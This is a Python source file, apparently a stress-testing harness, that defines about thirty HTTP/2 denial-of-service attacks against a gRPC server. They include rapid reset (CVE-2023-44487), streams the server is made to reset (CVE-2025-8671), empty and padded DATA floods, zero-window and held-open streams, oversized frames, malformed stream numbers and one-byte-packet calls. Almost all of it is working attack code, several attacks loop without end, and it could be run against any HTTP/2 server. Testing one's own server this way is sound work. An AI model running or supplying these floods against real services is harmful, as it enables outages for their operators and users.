"""Attacks with streams: opened and reset, broken by a frame, held open, or asked for more than is read."""

import functools
import socket

import connection as connections
from frames import (COUNTERS, DATA, END_STREAM, HEADERS, HIGHEST_STREAM, INITIAL_WINDOW_SIZE, PRIORITY, PUSH_PROMISE,
                    REFLECTION, SESSION, NODES, RANKS, END_HEADERS, FrameReader, PADDED, RST_STREAM, WINDOW_UPDATE, data, frame, headers, kept, message,
                    request, reset, window_update)
from table import attack, attack_on_sockets, streams

_MOST = 2**31 - 1  # the maximum size of a window
_STREAMS = 100  # fewer than gRPC's 128


@functools.lru_cache(maxsize=None)
def _request(path, is_tls):
    return request(path, is_tls)


def _session(stream, is_tls):
    return headers(stream, _request(SESSION, is_tls))


def _opened_and_reset(stream, is_tls):
    return _session(stream, is_tls) + reset(stream)


@attack("rapid-reset", "streams that are reset as soon as they are opened (CVE-2023-44487)")
def _(connection):
    connection.greet()
    connection.stream(streams(_opened_and_reset, connection.is_tls))


def _called_and_reset(stream, is_tls):
    return headers(stream, _request(COUNTERS, is_tls)) + data(stream, message(b""), END_STREAM) + reset(stream)


@attack("rapid-reset-calls", "whole requests, each reset at once")
def _(connection):
    connection.greet()
    connection.stream(streams(_called_and_reset, connection.is_tls))


def _with_zero_increment(stream, is_tls):
    return _session(stream, is_tls) + window_update(stream, 0)


@attack("made-reset-zero-increment", "streams that the server must reset: WINDOW_UPDATE by 0 (CVE-2025-8671)")
def _(connection):
    connection.greet()
    connection.stream(streams(_with_zero_increment, connection.is_tls))


def _with_overflow(stream, is_tls):
    return _session(stream, is_tls) + window_update(stream, _MOST) * 2


@attack("made-reset-overflow", "the same by a window that overflows")
def _(connection):
    connection.greet()
    connection.stream(streams(_with_overflow, connection.is_tls))


def _with_late_data(stream, is_tls):
    return headers(stream, _request(SESSION, is_tls), END_HEADERS | END_STREAM) + frame(DATA, 0, stream, b"\0")


@attack("made-reset-late-data", "the same by DATA behind END_STREAM")
def _(connection):
    connection.greet()
    connection.stream(streams(_with_late_data, connection.is_tls))


def _with_short_priority(stream, is_tls):
    return _session(stream, is_tls) + frame(PRIORITY, 0, stream, b"\0\0\0\0")


@attack("made-reset-priority", "the same by a PRIORITY frame of 4 bytes")
def _(connection):
    connection.greet()
    connection.stream(streams(_with_short_priority, connection.is_tls))


def _without_path(stream, is_tls):
    return headers(stream, b"\x83\x86", END_HEADERS | END_STREAM)


@attack("made-reset-no-path", "the same by a request without a path")
def _(connection):
    connection.greet()
    connection.stream(streams(_without_path, connection.is_tls))


def _with_bad_message(stream, is_tls):
    return headers(stream, _request(COUNTERS, is_tls)) + data(stream, b"\x07" + b"\xff" * 8, END_STREAM)


@attack("made-reset-message", "the same by a message whose head is none of gRPC's")
def _(connection):
    connection.greet()
    connection.stream(streams(_with_bad_message, connection.is_tls))


@attack("idle-streams", "sessions without end that say nothing; no SETTINGS acknowledged, nothing read")
def _(connection):
    connection.is_read = False
    connection.greet(is_acknowledging=False)
    connection.stream(streams(_session, connection.is_tls))


@attack("idle-streams-held", "100 sessions that say nothing, and 100 more each second")
def _(connection):
    connection.greet()
    first = 0
    while True:
        for number in range(first, first + _STREAMS):
            connection.send(_session(2 * number + 1, connection.is_tls))
        first += _STREAMS
        connection.hold(1)


def _unfinished(connection, path):
    connection.greet()
    windows = Windows(connection)
    for number in range(_STREAMS):
        stream = 2 * number + 1
        connection.send(headers(stream, _request(path, connection.is_tls)))
        windows.send(stream, message(b"v" * 249_999, length=250_000))
    connection.hold()


@attack("unfinished-messages", "100 sessions with a message of 250 kB each that lacks its last byte")
def _(connection):
    _unfinished(connection, SESSION)


@attack("unfinished-requests", "the same by calls that answer once, and take no message of that length")
def _(connection):
    _unfinished(connection, COUNTERS)


class Windows:
    """Sends DATA as fast as the server's windows for the connection and a stream allow."""

    def __init__(self, connection):
        self.connection, self.reader, self.left = connection, FrameReader(), {0: 65535}
        connection.on_received = self._take

    def _take(self, received):
        for kind, _, stream, payload in self.reader.feed(received):
            if kind == WINDOW_UPDATE:
                self.left[stream] = self.left.get(stream, 65535) + int.from_bytes(payload, "big")

    def send(self, stream, payload):
        while payload:
            room = min(self.left[0], self.left.setdefault(stream, 65535), 16384)
            if room <= 0:
                self.connection.hold(0.01)
                continue
            self.connection.send(frame(DATA, 0, stream, payload[:room]))
            self.left[0] -= room
            self.left[stream] -= room
            payload = payload[room:]


# ServerReflectionRequest.file_containing_symbol: an answer of some kB.
_ASKED = message(b"\x22" + bytes([len(b"muster.v1.Admin")]) + b"muster.v1.Admin")


@attack("zero-window", "a window of 0, and 2,000 questions to gRPC's reflection, whose answers can't go out")
def _(connection):
    connection.greet((INITIAL_WINDOW_SIZE, 0))
    for number in range(_STREAMS):
        stream = 2 * number + 1
        connection.send(headers(stream, _request(REFLECTION, connection.is_tls)) + data(stream, _ASKED * 20))
        connection.hold(0.01)
    connection.hold()


@attack("zero-window-calls", "a window of 0, and calls whose answers can't go out; 50 are given up and asked again, without end")
def _(connection):
    connection.greet((INITIAL_WINDOW_SIZE, 0))
    first = 0
    while True:
        asked = range(first, first + 50)
        connection.send(b"".join(_called(2 * number + 1, connection.is_tls) for number in asked))
        connection.hold(0.2)
        connection.send(b"".join(reset(2 * number + 1) for number in asked))
        first += 50


def _called(stream, is_tls):
    return headers(stream, _request(COUNTERS, is_tls)) + data(stream, message(b""), END_STREAM)


@attack("unread-replies", "calls without end, windows as large as can be, and nothing is read; no SETTINGS acknowledged")
def _(connection):
    connection.is_read = False
    connection.greet((INITIAL_WINDOW_SIZE, _MOST), is_acknowledging=False)
    connection.send(window_update(0, _MOST - 65535))
    connection.stream(streams(_called, connection.is_tls))


@attack("calls", "calls as fast as they can be written, and read")
def _(connection):
    connection.greet((INITIAL_WINDOW_SIZE, _MOST))
    connection.send(window_update(0, _MOST - 65535))
    connection.stream(streams(_called, connection.is_tls))


class InTurn:
    """Keeps `most` calls in progress: when one ends, the next one begins."""

    def __init__(self, connection, most):
        self.connection, self.most, self.begun, self.ended, self.reader = connection, most, 0, 0, FrameReader()
        connection.on_received = self._take

    def _take(self, received):
        for kind, flags, stream, _ in self.reader.feed(received):
            if stream and (kind == RST_STREAM or (kind in (HEADERS, DATA) and flags & END_STREAM)):
                self.ended += 1

    def run(self, make):
        while True:
            count = self.most - (self.begun - self.ended)
            if count == 0:
                self.connection.await_bytes()
                continue
            numbers = range(self.begun, self.begun + count)
            self.connection.send(b"".join(make(2 * number + 1, self.connection.is_tls) for number in numbers))
            self.begun += count


def _short(path, payload, stream, is_tls):
    """A request of a few bytes: it refers to the fields that the first one put into the HPACK table."""
    scheme = b"\x87" if is_tls else b"\x86"
    fields = ([(4, path.encode()), (1, b"muster"), (31, b"application/grpc"), (b"te", b"trailers")])
    block = b"".join(kept(*field) for field in fields) if stream == 1 else bytes([0x80 | 62 + i for i in (3, 2, 1, 0)])
    return headers(stream, b"\x83" + scheme + block) + data(stream, message(payload), END_STREAM)


def _in_turn(connection, path, payload=b""):
    connection.greet((INITIAL_WINDOW_SIZE, _MOST))
    connection.send(window_update(0, _MOST - 65535))
    InTurn(connection, 60).run(functools.partial(_short, path, payload))


@attack("calls-in-turn", "calls as fast as they are answered, 60 at once, fewer than a connection may have")
def _(connection):
    _in_turn(connection, COUNTERS)


@attack("nodes-in-turn", "the same, each a question for all nodes of a large job")
def _(connection):
    _in_turn(connection, NODES, b"\x0a\x04load")  # muster_load's job


@attack("ranks-in-turn", "the same, each a question for all ranks of a large job")
def _(connection):
    _in_turn(connection, RANKS, b"\x0a\x04load")


@attack("one-byte-data", "a message in DATA frames of one byte")
def _(connection):
    connection.greet()
    connection.send(_session(1, connection.is_tls) + data(1, message(b"", length=200_000)))
    connection.flood(frame(DATA, 0, 1, b"v"))


@attack("empty-data", "DATA frames without a byte (CVE-2019-9518)")
def _(connection):
    connection.greet()
    connection.send(_session(1, connection.is_tls))
    connection.flood(frame(DATA, 0, 1))


@attack("padded-data", "DATA frames that are all padding")
def _(connection):
    connection.greet()
    connection.send(_session(1, connection.is_tls))
    connection.flood(frame(DATA, PADDED, 1, b"\xff" + bytes(255)))


def _padded(stream, is_tls):
    return frame(HEADERS, END_HEADERS | PADDED, stream, b"\xff" + _request(SESSION, is_tls) + bytes(255))


@attack("padded-headers", "requests with 255 bytes of padding")
def _(connection):
    connection.greet()
    connection.stream(streams(_padded, connection.is_tls))


@attack("push-promise", "PUSH_PROMISE frames, which no client may send")
def _(connection):
    connection.greet()
    connection.send(_session(1, connection.is_tls))
    connection.flood(frame(PUSH_PROMISE, END_HEADERS, 1, b"\0\0\0\2" + _request(SESSION, connection.is_tls)))


_turns = {}


def _each_in_turn(name, choices):
    _turns[name] = _turns.get(name, 0) + 1
    return choices[_turns[name] % len(choices)]


@attack("stream-numbers", "streams of numbers that are even, fall, repeat, are 0 or the highest; each on a new connection")
def _(connection):
    connection.greet()
    numbers = _each_in_turn("stream-numbers", [(2,), (9, 7, 5, 3), (1, 1, 1), (0,), (HIGHEST_STREAM, 1), (HIGHEST_STREAM,) * 50])
    connection.send(b"".join(_session(number, connection.is_tls) for number in numbers))
    connection.hold(0.05)


@attack("oversized-frames", "frames of 16 MB, of each kind; each on a new connection")
def _(connection):
    connection.greet()
    kind = _each_in_turn("oversized-frames", range(11))
    connection.send(_session(1, connection.is_tls))
    connection.send(frame(kind, 0, 1 if kind in (0, 1, 9) else 0, length=2**24 - 1))
    for _ in range(64):
        connection.send(bytes(256 * 1024))


@attack("half-frames", "a frame of 16 kB that comes with a byte a second, behind 100 open sessions")
def _(connection):
    connection.greet()
    for number in range(_STREAMS):
        connection.send(_session(2 * number + 1, connection.is_tls))
    connection.send(frame(HEADERS, END_HEADERS, 2 * _STREAMS + 1, length=16384))
    while True:
        connection.send(b"\0")
        connection.hold(1)


@attack_on_sockets("tiny-pieces", "calls in pieces of one byte, each a packet (and with TLS a record) of its own")
def _(target):
    with connections.Connection(target, [(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)]) as connection:
        connection.greet((INITIAL_WINDOW_SIZE, _MOST))
        for piece in streams(_called, connection.is_tls):
            for i in range(len(piece)):
                connection.send(piece[i:i + 1])
